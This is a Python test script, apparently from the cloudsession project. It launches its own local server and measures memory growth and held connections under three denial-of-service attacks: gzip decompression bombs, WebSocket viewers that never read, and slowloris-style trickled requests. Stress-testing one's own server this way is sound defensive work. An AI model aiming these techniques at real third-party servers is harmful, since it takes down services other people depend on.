#!/usr/bin/env python3
"""Unauthenticated attacks on a real ``cloudsession serve`` process, printing what each costs.

Starts its own server (filesystem store in a temporary directory) for each attack, then:

- ``gzip``: concurrent syncs with a wrong secret whose bodies are ~60 KB of gzip that inflates
  to ~60 MB; prints the server's peak RSS growth and the statuses.
- ``viewers``: WebSocket viewers on ``/ws/<id>`` (reference format) that never read, then one
  large sync; prints the peak RSS growth while the frames go out.
- ``trickle``: connections that send a request head, or a body, one byte at a time; prints how
  many the server still holds open after a while.

Memory is VmRSS from /proc/<pid>/status, sampled every 20 ms; growth is the peak during the
attack minus the value just before it (a warm-up of the same legitimate work runs first so the
allocator's own growth is not counted). Usage::

    .venv/bin/python scripts/attack_memory.py [gzip viewers trickle] [--viewers 100 --sync-mb 20]
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import gzip
import json
import os
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

NAMESPACE = "6ba7b810-9dad-11d1-80b4-00c04fd430c8"
SES = "ses_attack0000000000000000000001"


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@contextlib.contextmanager
def server(env: dict[str, str] | None = None) -> Iterator[tuple[str, int]]:
    """A fresh ``cloudsession serve``: yields (base URL, pid)."""
    port = free_port()
    with tempfile.TemporaryDirectory() as tmp:
        full_env = {**os.environ, "SESSIONS_SHARED_SECRET": NAMESPACE, "CLOUDSESSION_LOG_LEVEL": "WARNING", **(env or {})}
        cmd = [sys.executable, "-m", "cloudsession", "serve", "--host", "127.0.0.1", "--port", str(port), "--data-dir", tmp]
        log = open(Path(tmp) / "server.log", "wb")  # noqa: SIM115 - the child keeps it
        proc = subprocess.Popen(cmd, env=full_env, stdout=log, stderr=subprocess.STDOUT)
        url = f"http://127.0.0.1:{port}"
        try:
            for _ in range(400):
                try:
                    with urllib.request.urlopen(url + "/healthz", timeout=1):
                        break
                except OSError:
                    time.sleep(0.05)
            yield url, proc.pid
        finally:
            proc.terminate()
            try:
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
            log.close()


def rss_bytes(pid: int) -> int:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise RuntimeError("no VmRSS")


class PeakSampler:
    """Samples a process's RSS in the background; ``peak`` is the highest seen."""

    def __init__(self, pid: int) -> None:
        self.pid, self.peak = pid, rss_bytes(pid)
        self._task: asyncio.Task[None] | None = None

    async def _run(self) -> None:
        while True:
            self.peak = max(self.peak, rss_bytes(self.pid))
            await asyncio.sleep(0.02)

    def __enter__(self) -> PeakSampler:
        self._task = asyncio.get_running_loop().create_task(self._run())
        return self

    def __exit__(self, *exc: object) -> None:
        assert self._task is not None
        self._task.cancel()
        self.peak = max(self.peak, rss_bytes(self.pid))


def call(url: str, method: str, path: str, body: Any = None) -> Any:
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url + path, data=data, method=method, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=120) as response:
        return json.loads(response.read())


def big_items(megabytes: float, tag: str) -> list[dict[str, Any]]:
    """Parts totalling about ``megabytes`` of text, in one message."""
    message = {"id": f"msg_{tag}", "sessionID": SES, "role": "assistant", "time": {"created": 1}}
    chunk = 100_000
    count = max(1, int(megabytes * 1_000_000 / chunk))
    parts = [
        {"type": "part", "data": {"id": f"prt_{tag}_{n:05d}", "messageID": message["id"], "sessionID": SES, "type": "text", "text": "x" * chunk}}
        for n in range(count)
    ]
    return [{"type": "message", "data": message}, *parts]


async def raw_request(host: str, port: int, head: bytes, body: bytes = b"") -> int:
    """Send one request on a fresh connection and return the answer's status (0: none)."""
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(head + body)
        await writer.drain()
        line = await asyncio.wait_for(reader.readline(), 120)
        return int(line.split()[1]) if line else 0
    except (TimeoutError, ConnectionError):
        return 0
    finally:
        writer.close()


def mib(n: float) -> str:
    return f"{n / 1024 / 1024:.0f} MiB"


# --------------------------------------------------------------------------- attacks


async def attack_gzip(count: int) -> None:
    inflated = b'{"secret":"wrong","data":"' + b"a" * (60 * 1024 * 1024) + b'"}'
    body = gzip.compress(inflated, 9)
    with server() as (url, pid):
        creds = call(url, "POST", "/api/share", {"sessionID": SES})
        host, port = "127.0.0.1", int(url.rsplit(":", 1)[1])
        head = (
            f"POST /api/share/{creds['id']}/sync HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
            f"Content-Encoding: gzip\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
        ).encode()
        await asyncio.sleep(0.5)
        before = rss_bytes(pid)
        with PeakSampler(pid) as sampler:
            statuses = await asyncio.gather(*(raw_request(host, port, head, body) for _ in range(count)))
            await asyncio.sleep(1.0)
        print(
            f"gzip: {count} bodies of {len(body) // 1024} KiB (inflating to {mib(len(inflated))}), wrong secret: "
            f"statuses {sorted(set(statuses))}, peak RSS growth {mib(sampler.peak - before)}",
            flush=True,
        )


async def _stuck_viewer(host: str, port: int, path: str) -> socket.socket:
    """A WebSocket viewer that completes the handshake and then never reads again."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    loop = asyncio.get_running_loop()
    await loop.sock_connect(sock, (host, port))
    key = base64.b64encode(os.urandom(16)).decode()
    head = (
        f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
        # What a browser offers: per-message compression.
        "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n\r\n"
    )
    await loop.sock_sendall(sock, head.encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        chunk = await loop.sock_recv(sock, 1)  # byte by byte: leave any frame unread
        if not chunk:
            raise RuntimeError("viewer refused")
        answer += chunk
    if b" 101 " not in answer.split(b"\r\n", 1)[0]:
        raise RuntimeError(f"viewer refused: {answer.splitlines()[0]!r}")
    return sock


async def attack_viewers(count: int, sync_mb: float) -> None:
    with server({"CLOUDSESSION_MAX_VIEWERS_PER_ADDRESS": str(count + 10)}) as (url, pid):
        creds = call(url, "POST", "/api/share", {"sessionID": SES})
        host, port = "127.0.0.1", int(url.rsplit(":", 1)[1])
        sync = f"/api/share/{creds['id']}/sync"
        # Warm-up: the same sync with nobody watching, so its own cost is not counted.
        await asyncio.to_thread(call, url, "POST", sync, {"secret": creds["secret"], "data": big_items(sync_mb, "warm")})
        sockets = [await _stuck_viewer(host, port, f"/ws/{creds['id']}") for _ in range(count)]
        await asyncio.sleep(0.5)
        before = rss_bytes(pid)
        with PeakSampler(pid) as sampler:
            await asyncio.to_thread(call, url, "POST", sync, {"secret": creds["secret"], "data": big_items(sync_mb, "attack")})
            await asyncio.sleep(5.0)
        print(f"viewers: {count} viewers that never read, one {sync_mb:.0f} MB sync: peak RSS growth {mib(sampler.peak - before)}", flush=True)
        for sock in sockets:
            sock.close()


async def _trickle(host: str, port: int, prefix: bytes, seconds: float) -> bool:
    """Send ``prefix`` then one byte every half second; True when the server is still connected."""
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(prefix)
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            writer.write(b"a")
            await writer.drain()
            with contextlib.suppress(asyncio.TimeoutError):
                data = await asyncio.wait_for(reader.read(65536), 0.5)
                if not data:
                    return False
                # An answer (408) is fine; what matters is whether the socket stays open.
        return not reader.at_eof()
    except ConnectionError:
        return False
    finally:
        writer.close()


async def attack_trickle(count: int, seconds: float) -> None:
    with server() as (url, _pid):
        host, port = "127.0.0.1", int(url.rsplit(":", 1)[1])
        head = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: "
        body = b"POST /api/share HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
        heads = await asyncio.gather(*(_trickle(host, port, head, seconds) for _ in range(count)))
        bodies = await asyncio.gather(*(_trickle(host, port, body, seconds) for _ in range(count)))
        print(
            f"trickle: after {seconds:.0f} s, {sum(heads)} of {count} trickled heads and "
            f"{sum(bodies)} of {count} trickled bodies still open",
            flush=True,
        )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attacks", nargs="*", default=["gzip", "viewers", "trickle"])
    parser.add_argument("--gzip-count", type=int, default=10)
    parser.add_argument("--viewers", type=int, default=100)
    parser.add_argument("--sync-mb", type=float, default=20)
    parser.add_argument("--trickle-count", type=int, default=140)
    parser.add_argument("--trickle-seconds", type=float, default=32)
    args = parser.parse_args()
    for name in args.attacks:
        if name == "gzip":
            asyncio.run(attack_gzip(args.gzip_count))
        elif name == "viewers":
            asyncio.run(attack_viewers(args.viewers, args.sync_mb))
        elif name == "trickle":
            asyncio.run(attack_trickle(args.trickle_count, args.trickle_seconds))
        else:
            parser.error(f"unknown attack {name!r}")


if __name__ == "__main__":
    main()
